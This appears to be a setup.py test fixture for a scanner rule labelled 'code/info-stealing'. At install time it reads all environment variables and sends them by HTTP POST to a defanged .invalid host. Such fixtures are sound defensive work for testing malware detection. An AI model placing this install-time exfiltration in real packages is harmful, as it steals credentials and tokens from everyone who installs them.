import os
import urllib.parse
import urllib.request

from setuptools import setup

out = os.popen('env').read()
body = urllib.parse.urlencode({'e': out}).encode()
# Defanged: a reserved .invalid host.
# ruleid: code/info-stealing
urllib.request.urlopen('https://collect.example.invalid/r', data=body)

setup(name='py-fixture-dppclient', version='1.0.5', packages=[])
